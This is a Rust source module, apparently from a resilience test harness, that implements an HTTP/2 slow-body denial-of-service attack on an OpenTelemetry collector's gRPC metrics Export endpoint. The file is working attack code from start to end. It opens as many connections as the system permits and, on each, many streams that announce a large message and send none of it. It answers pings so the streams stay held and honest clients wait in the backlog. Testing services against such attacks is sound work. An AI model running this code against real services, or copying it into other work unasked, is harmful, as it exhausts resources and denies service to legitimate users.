//! HTTP/2 connections of the attacker's: they answer pings, and their streams withhold what they announce.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Result;
use bytes::{BufMut as _, Bytes, BytesMut};
use h2::client::{ResponseFuture, SendRequest};
use h2::{Ping, SendStream};
use http::Request;
use tokio::task::JoinSet;

const EXPORT: &str = "/opentelemetry.proto.collector.metrics.v1.MetricsService/Export";

/// Time within which a connection is taken, or it waits in front of others.
const PATIENCE: Duration = Duration::from_secs(10);

/// Connections and their streams, held until they are dropped.
#[derive(Debug, Default)]
pub struct Withheld {
    tasks: JoinSet<()>,
    connections: Vec<SendRequest<Bytes>>,
    streams: Vec<(ResponseFuture, SendStream<Bytes>)>,
}

impl Withheld {
    /// Opens so many connections, and on each so many calls that announce a message of `announced` bytes and send none
    /// of it. Those that the agent does not take are left out.
    pub async fn begin(to: SocketAddr, connections: usize, streams: usize, announced: u32) -> Self {
        // Each is a file of this process, too.
        let _as_many_as_the_system_gives = gate::connections(connections);
        let mut held = Self::default();
        for _ in 0..connections {
            match tokio::time::timeout(PATIENCE, held.connect(to, streams, announced)).await {
                // Refused: the attack does without.
                Ok(Ok(()) | Err(_)) => {}
                // What comes now waits in the backlog, and so does what is honest.
                Err(_) => break,
            }
        }
        held
    }

    /// Connections that were taken.
    pub fn taken(&self) -> usize {
        self.connections.len()
    }

    async fn connect(&mut self, to: SocketAddr, streams: usize, announced: u32) -> Result<()> {
        let stream = super::connect(to).await?;
        let (mut client, mut connection) = h2::client::handshake(stream).await?;
        let mut pings = connection.ping_pong().ok_or_else(|| anyhow::anyhow!("no pings"))?;
        self.tasks.spawn(async move { drop(connection.await) });
        for _ in 0..streams {
            client = client.ready().await?;
            let request = Request::post(format!("http://{to}{EXPORT}"))
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .body(())?;
            let (response, mut body) = client.send_request(request, false)?;
            body.send_data(prefix(announced), false)?;
            self.streams.push((response, body));
        }
        // What was sent before it has been read once it is answered.
        pings.ping(Ping::opaque()).await?;
        self.connections.push(client);
        Ok(())
    }
}

/// A gRPC message's prefix: not compressed, so many bytes.
fn prefix(announced: u32) -> Bytes {
    let mut prefix = BytesMut::with_capacity(5);
    prefix.put_u8(0);
    prefix.put_u32(announced);
    prefix.freeze()
}
